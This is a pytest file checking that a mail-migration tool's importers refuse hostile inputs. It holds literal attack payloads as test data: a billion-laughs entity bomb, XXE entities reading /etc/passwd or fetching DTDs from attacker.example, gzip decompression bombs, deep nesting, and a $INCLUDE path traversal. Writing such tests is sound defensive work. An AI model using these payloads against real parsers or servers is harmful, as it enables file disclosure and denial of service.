"""Files made to do harm: entity bombs, packed zeros, values without end. Each is an error with its place, soon and in little memory."""

from __future__ import annotations

import base64
import gzip
import os
import time
import tracemalloc
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pytest

from coexsim.errors import InputError, UsageError
from coexsim.intake.configs.importing import Kind, import_setup
from coexsim.intake.logs.read import read_logs
from tests.intake.given import imported, told
from tests.intake.test_reading_logs import HUB

DXL = (
    "<database xmlns='http://www.lotus.com/dxl'>"
    "<document form='Person'><item name='InternetAddress'><text>{}</text></item></document></database>"
)
LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
SOON_S, LITTLE_BYTES = 20.0, 120_000_000


@contextmanager
def soon_and_small() -> Iterator[None]:
    """What is done here takes little processor time and little memory."""
    tracemalloc.start()
    begun_s = time.process_time()
    yield
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - begun_s < SOON_S
    assert most < LITTLE_BYTES


@pytest.mark.parametrize(
    "declared",
    [
        f"<!DOCTYPE database [<!ENTITY l0 'lol'>{LAUGHS}]>",
        "<!DOCTYPE database [<!ENTITY l9 SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE database [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]>",
        "<!DOCTYPE database [<!ENTITY l9 PUBLIC 'x' 'http://attacker.example/x'>]>",
    ],
    ids=["billion laughs", "a file", "a parameter entity", "an address"],
)
def test_entities_are_refused(tmp_path: Path, declared: str) -> None:
    """Nothing is expanded, no file and no address is opened."""
    with soon_and_small(), pytest.raises(InputError, match="entit") as caught:
        imported(tmp_path, {"names.dxl": f"<?xml version='1.0'?>{declared}{DXL.format('&l9;')}"}, "domino")
    assert "root:" not in str(caught.value)


def test_a_document_type_outside_is_not_fetched(tmp_path: Path) -> None:
    """DXL names its DTD, which is left alone wherever it lies."""
    head = "<?xml version='1.0'?><!DOCTYPE database SYSTEM 'http://attacker.example/domino.dtd'>"
    assert (
        "ann: {"
        in imported(
            tmp_path, {"names.dxl": head + DXL.format("ann@corporate.com")}, "domino", domain="corporate.com"
        ).text
    )


def test_ten_megabytes_of_base64_in_an_entry(tmp_path: Path) -> None:
    """A picture in LDIF, folded to lines of 76, is passed over; in a mail address it is told, not kept."""
    coded = base64.b64encode(b"\xff" * 7_500_000).decode()
    folded = "\n ".join(coded[at : at + 76] for at in range(0, len(coded), 76))
    entry = "dn: cn=ann\nobjectClass: person\nmail: ann@corporate.com\n{}:: " + folded + "\n"
    with soon_and_small():
        assert "ann: {" in imported(tmp_path, {"a.ldif": entry.format("jpegPhoto")}, "directory").text
    with soon_and_small():
        found = imported(tmp_path, {"a.ldif": entry.format("proxyAddresses")}, "directory")
    assert "ann: {" in found.text
    assert len(found.text) < 5_000


@pytest.mark.parametrize(
    ("kind", "name", "content"),
    [
        ("directory", "a.csv", b"Name,mail\nAnn,ann@corporate.com\0\n"),
        ("directory", "a.csv", b'Name,mail\nAnn,"ann@corporate.com\nBob,bob@corporate.com\n'),
        ("directory", "a.csv", b'Name,mail\nAnn,ann"@corp"orate.com"x"\n"'),
        ("directory", "a.csv", "Name,mail\nAnn,ann@corporate.com\n".encode("utf-16")[:-1]),
        ("directory", "a.ldif", "dn: cn=a\nmail: a@corporate.com\n".encode("utf-16-be") + b"\0"),
        ("exchange", "a.json", b"[" * 100_000),
        ("exchange", "a.json", b'{"DomainName": "x.example", "DomainType": 0, "DomainType": 1e99999}'),
        ("dns", "a.zone", b"@ IN MX 10 mx\n" + b"(" * 100_000),
        ("postfix", "main.cf", b"a = $b\nb = $a\nmyhostname = $a\n"),
    ],
    ids=[
        "NUL",
        "lone quote",
        "quotes inside",
        "odd UTF-16",
        "odd UTF-16 BE",
        "deep JSON",
        "endless number",
        "parentheses",
        "a circle",
    ],
)
def test_broken_texts_are_told_with_their_place(tmp_path: Path, kind: Kind, name: str, content: bytes) -> None:
    """An error that names the file; never a traceback, never a figure."""
    with soon_and_small(), pytest.raises(InputError) as caught:
        imported(tmp_path, {name: content}, kind)
    assert all(problem.file.endswith(name) and problem.text for problem in caught.value.problems)


PIPES: dict[str, Kind | None] = {
    "dxl": "domino", "ldif": "directory", "csv": "exchange", "json": "exchange", "zone": "dns", "cf": "postfix", "log": None, "gz": None,
}  # fmt: skip


@pytest.mark.parametrize("ending", PIPES)
def test_pipes_are_not_read(tmp_path: Path, ending: str) -> None:
    """Nobody writes into it: who opens it to read waits for ever. Nor could a log be read twice from one."""
    pipe = tmp_path / f"pipe.{ending}"
    os.mkfifo(pipe)
    kind = PIPES[ending]
    read = partial(import_setup, pipe, kind=kind) if kind else partial(read_logs, [pipe])
    with pytest.raises((InputError, UsageError), match=rf"pipe.{ending}: cannot be read: it is a pipe, not a file"):
        read()


def test_zeros_packed_a_thousandfold(tmp_path: Path) -> None:
    """200 MB of zeros in 200 KB: no log; behind a log they are damaged lines, which are counted and not kept."""
    bomb = gzip.compress(bytes(200_000_000))
    (tmp_path / "zeros.gz").write_bytes(bomb)
    (tmp_path / "mail.gz").write_bytes(gzip.compress(HUB.encode() + b"\n") + bomb)
    with soon_and_small():
        assert read_logs([tmp_path / "zeros.gz"]).told[0].kind == "empty"
    with soon_and_small():
        [said] = read_logs([tmp_path / "mail.gz"], year=2026).told
    assert said.damaged > 100
    assert said.used > 5


def test_packed_text_that_is_no_log_is_refused(tmp_path: Path) -> None:
    """One line of 100 MB of letters is no log of any kind."""
    (tmp_path / "a.gz").write_bytes(gzip.compress(b"a" * 100_000_000))
    with soon_and_small(), pytest.raises(UsageError, match="no known kind"):
        read_logs([tmp_path / "a.gz"])


def test_an_include_does_not_leave_the_folder(tmp_path: Path) -> None:
    """$INCLUDE of a file elsewhere is told, not read."""
    found = imported(
        tmp_path, {"corporate.com.zone": "@ IN MX 10 mx\nmx IN A 192.0.2.1\n$INCLUDE ../../../../etc/passwd\n"}, "dns"
    )
    assert len(told(found, "$INCLUDE")) == 1
